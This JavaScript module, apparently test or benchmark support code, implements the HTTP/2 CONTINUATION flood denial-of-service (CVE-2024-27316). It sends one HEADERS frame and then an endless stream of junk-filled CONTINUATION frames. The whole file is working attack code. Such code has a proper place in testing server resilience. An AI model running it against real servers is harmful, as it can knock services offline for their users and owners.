import { frameHead, HEADERS, requestHeaders } from "../../bench/load/frames.mjs";
import { APPEND, keepWriting } from "../support/http2.mjs";

const CONTINUATION = 0x9;

/** A header block that does not end (CVE-2024-27316). */
export function connectAndAttack(address) {
  const headers = requestHeaders(APPEND, address);
  const field = Buffer.concat([Buffer.of(0x00, 1), Buffer.from("x"), Buffer.of(100), Buffer.alloc(100, 0x79)]);
  const part = Buffer.concat(Array.from({ length: 100 }, () => field));
  const next = Buffer.concat([frameHead(part.length, CONTINUATION, 0, 1), part]);
  let begun = false;
  return keepWriting(address, () => {
    if (begun) return next;
    begun = true;
    return Buffer.concat([frameHead(headers.length, HEADERS, 0, 1), headers]);
  });
}
